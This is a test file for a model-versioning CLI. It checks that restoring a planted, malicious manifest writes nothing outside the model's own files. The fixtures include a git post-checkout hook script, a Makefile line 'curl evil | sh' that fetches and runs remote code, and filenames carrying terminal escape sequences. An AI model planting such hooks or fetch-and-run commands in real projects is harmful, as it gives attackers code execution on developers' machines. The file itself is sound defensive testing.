// Planted manifests (issue 20): manifests travel with git, so a teammate's branch or a cloned
// repository can bring one naming any path. Each case plants the exact file a malicious branch
// would (a well-formed manifest whose bytes hash to its name) and checks that restore writes only
// the model's own files, refusing the whole restore with the paths named before writing anything.
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { Ledger } from '../../src/core/ledger';
import { manifestDigest, serializeManifest } from '../../src/core/store/manifest';
import type { VersionManifest } from '../../src/core/model';
import { removeDir } from '../unit/fixtures';
import { cli, cliJson, initializedWorkspace } from './support';

const dirs: string[] = [];
after(() => dirs.forEach(removeDir));

function workspace(): string {
	return initializedWorkspace(dirs);
}

export interface PlantedArtifact {
	path: string;
	content: string;
	mode?: number;
}

/** Writes a manifest whose digest matches its name, with its objects in the store (as a pulled branch plus `pull` would). */
export async function plantManifest(root: string, artifacts: PlantedArtifact[], fields: Partial<VersionManifest> = {}): Promise<string> {
	const ledger = Ledger.at(root);
	try {
		const records = [];
		for (const a of artifacts) {
			const stored = await ledger.store.storeBuffer(Buffer.from(a.content));
			records.push({ path: a.path, role: 'other' as const, sha256: stored.sha256, size: stored.size, mode: a.mode ?? 0o644 });
		}
		const manifest: VersionManifest = {
			schema: 1, model: 'support-bot', number: 50, label: '9.9.9', versioning: 'semver', createdAt: new Date().toISOString(),
			author: { name: 'mallory' }, message: 'planted', artifacts: records, params: {}, metrics: {}, prompts: {}, weights: {}, lockfiles: {}, data: [],
			git: { commit: null, branch: null, remote: null, dirty: false },
			...fields,
		};
		const text = serializeManifest(manifest);
		const digest = manifestDigest(text);
		mkdirSync(join(root, '.model-ledger', 'versions', manifest.model), { recursive: true });
		writeFileSync(join(root, '.model-ledger', 'versions', manifest.model, `${digest}.yaml`), text);
		return digest;
	} finally {
		ledger.close();
	}
}

/** Files of the workspace outside .model-ledger and .git, with their contents. */
function workspaceFiles(root: string, rel = ''): Map<string, string> {
	const files = new Map<string, string>();
	for (const entry of readdirSync(join(root, rel), { withFileTypes: true })) {
		const path = rel ? `${rel}/${entry.name}` : entry.name;
		if (path === '.git' || path === '.model-ledger') continue;
		if (entry.isDirectory()) for (const [p, c] of workspaceFiles(root, path)) files.set(p, c);
		else files.set(path, readFileSync(join(root, path), 'latin1'));
	}
	return files;
}

/** The planted versions are suspect: not listed, named by `list` on stderr and by `verify`, and restore writes nothing. */
function assertSuspect(dir: string, planted: Array<{ digest: string; path: RegExp }>): void {
	const before = workspaceFiles(dir);
	const listed = cli(dir, ['list', 'support-bot', '--json']);
	assert.equal(listed.code, 0, listed.stderr);
	const versions = JSON.parse(listed.stdout) as Array<{ digest: string }>;
	const verify = cli(dir, ['verify', '--json']);
	assert.equal(verify.code, 1, 'verify fails on a suspect manifest');
	const report = JSON.parse(verify.stdout) as { manifests: Array<{ digest: string; problem: string; message: string }> };
	for (const { digest, path } of planted) {
		assert.ok(!versions.some((v) => v.digest === digest), 'a suspect manifest is not listed as a version');
		assert.match(listed.stderr, new RegExp(`suspect: Suspect manifest \\.model-ledger/versions/support-bot/${digest}\\.yaml: .*${path.source}`));
		const found = report.manifests.find((m) => m.digest === digest);
		assert.equal(found?.problem, 'suspect', path.source);
		assert.match(found!.message, path);
		const r = cli(dir, ['restore', `support-bot@${digest.slice(0, 12)}`, '--force']);
		assert.equal(r.code, 1, `restore must be refused: ${r.stdout}`);
		assert.match(r.stderr, /suspect manifest/i);
		assert.doesNotMatch(r.stderr, /TypeError|at .*\.js:\d+/, 'a clear error, not a stack');
	}
	const byNumber = cli(dir, ['restore', 'support-bot@50', '--force']);
	assert.equal(byNumber.code, 1);
	assert.match(byNumber.stderr, /No version `50` of `support-bot`\. \d+ suspect manifest\(s\) of `support-bot` are not versions/);
	assert.deepEqual(workspaceFiles(dir), before, 'restore wrote nothing');
}

function escaped(path: string): RegExp {
	return new RegExp(JSON.stringify(path).slice(1, -1).replace(/[.*\\/[\]()]/g, (c) => `\\${c}`));
}

describe('planted manifests: restore writes only the model\'s own files', () => {
	test('a manifest naming vendor/lib/.git/hooks/post-checkout (0755) is suspect; restore --force writes no hook', async () => {
		const dir = workspace();
		cliJson(dir, ['snapshot', 'support-bot']);
		mkdirSync(join(dir, 'vendor', 'lib', '.git', 'hooks'), { recursive: true });
		const digest = await plantManifest(dir, [
			{ path: 'prompts/system.md', content: 'planted prompt\n' },
			{ path: 'vendor/lib/.git/hooks/post-checkout', content: '#!/bin/sh\necho owned > /tmp/owned\n', mode: 0o755 },
		]);
		assertSuspect(dir, [{ digest, path: /vendor\/lib\/\.git\/hooks\/post-checkout/ }]);
		assert.ok(!existsSync(join(dir, 'vendor', 'lib', '.git', 'hooks', 'post-checkout')));
		assert.notEqual(readFileSync(join(dir, 'prompts', 'system.md'), 'utf8'), 'planted prompt\n', 'the whole restore was refused, not just the hook');
	});

	test('a manifest naming .vscode/tasks.json, .env and model-ledger.yaml is suspect; none is written and the config still works', async () => {
		const dir = workspace();
		cliJson(dir, ['snapshot', 'support-bot']);
		const config = readFileSync(join(dir, 'model-ledger.yaml'), 'utf8');
		const planted = [];
		for (const path of ['.vscode/tasks.json', '.env', 'model-ledger.yaml', 'prompts/.envrc', 'sub/.github/workflows/ci.yml', 'sub/model-ledger.yaml', '.model-ledger/cache/x', 'node_modules/pkg/index.js', '.GIT/config']) {
			planted.push({ digest: await plantManifest(dir, [{ path, content: 'planted\n' }], { message: path }), path: escaped(path) });
		}
		assertSuspect(dir, planted);
		assert.ok(!existsSync(join(dir, '.vscode')) && !existsSync(join(dir, '.env')) && !existsSync(join(dir, 'sub')));
		assert.equal(readFileSync(join(dir, 'model-ledger.yaml'), 'utf8'), config);
		assert.equal(cli(dir, ['list']).code, 0, 'every command still works');
	});

	test('artifact paths with a newline or a NUL are suspect: a clear refusal, no file with a newline, no TypeError', async () => {
		const dir = workspace();
		cliJson(dir, ['snapshot', 'support-bot']);
		const planted = [];
		for (const path of ['prompts/evil\nname.md', 'prompts/evil\u0000name.md', 'prompts/\u001b]0;owned\u0007.md', 'prompts/c1\u009b.md']) {
			planted.push({ digest: await plantManifest(dir, [{ path, content: 'planted\n' }], { message: JSON.stringify(path) }), path: /control character/ });
		}
		assertSuspect(dir, planted);
		assert.ok(!listedText(dir).includes('\u001b'), 'no escape sequence reaches the terminal through the suspect listing');
		assert.deepEqual(readdirSync(join(dir, 'prompts')).filter((n) => /[\u0000-\u001f]/.test(n)), []);
	});

	test('a manifest naming a file the model does not track is listed, but its restore is refused with the paths named before anything is written', async () => {
		const dir = workspace();
		cliJson(dir, ['snapshot', 'support-bot']);
		const digest = await plantManifest(dir, [
			{ path: 'prompts/system.md', content: 'planted prompt\n' },
			{ path: 'scripts/deploy.sh', content: '#!/bin/sh\necho owned\n', mode: 0o755 },
			{ path: 'Makefile', content: 'all:\n\tcurl evil | sh\n' },
		]);
		const listed = cliJson<Array<{ digest: string; number: number }>>(dir, ['list', 'support-bot']);
		assert.ok(listed.some((v) => v.digest === digest), 'well-formed paths inside the workspace: a version');
		const before = workspaceFiles(dir);
		for (const flags of [['--force'], ['--dry-run']]) {
			const r = cli(dir, ['restore', 'support-bot@50', ...flags]);
			assert.equal(r.code, 1, r.stdout);
			assert.match(r.stderr, /Refusing to restore support-bot v50: its manifest names 2 file\(s\) that are not support-bot's: Makefile \(not tracked by support-bot's globs\), scripts\/deploy\.sh \(not tracked by support-bot's globs\)\. Nothing was written.*add globs for them to model-ledger\.yaml/s);
		}
		assert.deepEqual(workspaceFiles(dir), before, 'nothing was written, not even the prompt the model does own');
		// Once the model's globs do track the file, the restore is the user's decision.
		writeFileSync(join(dir, 'model-ledger.yaml'), readFileSync(join(dir, 'model-ledger.yaml'), 'utf8').replace('    other: checkpoints/adapter/adapter_config.json', '    other: [checkpoints/adapter/adapter_config.json, scripts/*.sh, Makefile]'));
		const r = cli(dir, ['restore', 'support-bot@50', '--force']);
		assert.equal(r.code, 0, r.stderr);
		assert.equal(readFileSync(join(dir, 'Makefile'), 'utf8'), 'all:\n\tcurl evil | sh\n');
	});

	test('a manifest naming one file twice (the same path, `./`, a trailing slash, `a//b`, NFC and NFD) is suspect with the path named; restore writes nothing', async () => {
		const dir = workspace();
		cliJson(dir, ['snapshot', 'support-bot']);
		const nfc = 'prompts/caf\u00e9.md';
		const nfd = 'prompts/cafe\u0301.md';
		const planted = [];
		const cases: Array<[string, string, RegExp]> = [
			['prompts/system.md', 'prompts/system.md', /names the file `prompts\/system\.md` twice/],
			['prompts/system.md', './prompts/system.md', /empty or `\.` segment/],
			['prompts/system.md', 'prompts/system.md/', /empty or `\.` segment/],
			['prompts/system.md', 'prompts//system.md', /empty or `\.` segment/],
			[nfc, nfd, /* sorted: NFD first */ /names `prompts\/cafe\u0301\.md` and `prompts\/caf\u00e9\.md`, the same name in two Unicode forms/],
		];
		for (const [first, second, why] of cases) {
			const digest = await plantManifest(dir, [{ path: first, content: 'first\n' }, { path: second, content: 'second\n' }], { message: second });
			planted.push({ digest, path: why });
		}
		assertSuspect(dir, planted);
		assert.ok(!existsSync(join(dir, nfc)) && !existsSync(join(dir, nfd)));
		// A snapshot never writes such a pair: of two tracked files whose names differ only in normalization, the second is skipped, named.
		writeFileSync(join(dir, nfc), 'precomposed\n');
		writeFileSync(join(dir, nfd), 'decomposed\n');
		const snap = cli(dir, ['snapshot', 'support-bot']);
		assert.equal(snap.code, 0, snap.stderr);
		assert.match(snap.stderr, /skipped prompts\/caf.*\.md: it is the same name as prompts\/caf.*\.md in another Unicode form \(NFC\/NFD\)/);
		assert.equal(cli(dir, ['verify']).code, 1, 'the planted ones are still reported');
		const versions = cliJson<Array<{ number: number }>>(dir, ['list', 'support-bot']);
		assert.ok(versions.some((v) => v.number === 2), 'the new snapshot is a version, not a suspect manifest');
	});

	test('names no file system holds (a 300-byte segment) are suspect; a legitimate 240-byte name restores (its tmp name stays under 255 bytes)', async () => {
		const dir = workspace();
		cliJson(dir, ['snapshot', 'support-bot']);
		const digest = await plantManifest(dir, [{ path: `prompts/${'a'.repeat(297)}.md`, content: 'planted\n' }]);
		assertSuspect(dir, [{ digest, path: /a name in it is 300 bytes long, more than the 255 a file system allows/ }]);
		const long = `prompts/${'é'.repeat(118)}.md`; // 239 bytes
		writeFileSync(join(dir, long), 'first\n');
		cliJson(dir, ['snapshot', 'support-bot']);
		writeFileSync(join(dir, long), 'second\n');
		const r = cli(dir, ['restore', 'support-bot@latest', '--force']);
		assert.equal(r.code, 0, r.stderr);
		assert.equal(readFileSync(join(dir, long), 'utf8'), 'first\n');
	});

	test('a planted version number of 2^53 is suspect and never continued: the next snapshot takes the next real number', async () => {
		const dir = workspace();
		cliJson(dir, ['snapshot', 'support-bot']);
		const digest = await plantManifest(dir, [{ path: 'prompts/system.md', content: 'planted\n' }], { number: 2 ** 53 });
		const listed = cli(dir, ['list', 'support-bot']);
		assert.match(listed.stderr, new RegExp(`suspect: Suspect manifest .*${digest}\\.yaml: its version number 9007199254740992 is above 1000000`));
		const numbers: number[] = [];
		for (let i = 0; i < 3; i++) {
			writeFileSync(join(dir, 'prompts', 'system.md'), `edit ${i}\n`);
			const created = cliJson<{ created: Array<{ number: number }> }>(dir, ['snapshot', 'support-bot']).created;
			numbers.push(created[0].number);
		}
		assert.deepEqual(numbers, [2, 3, 4], 'numbers continue from the real versions, unique');
		// Just under the bound: accepted, and the snapshot after it is refused with the fix rather than numbered past it.
		await plantManifest(dir, [{ path: 'prompts/system.md', content: 'planted 2\n' }], { number: 1_000_000 });
		writeFileSync(join(dir, 'prompts', 'system.md'), 'edit 4\n');
		const r = cli(dir, ['snapshot', 'support-bot']);
		assert.equal(r.code, 1);
		assert.match(r.stderr, /cannot get a version number above 1000000.*most likely planted/);
	});
});

function listedText(dir: string): string {
	const r = cli(dir, ['list']);
	return r.stdout + r.stderr;
}
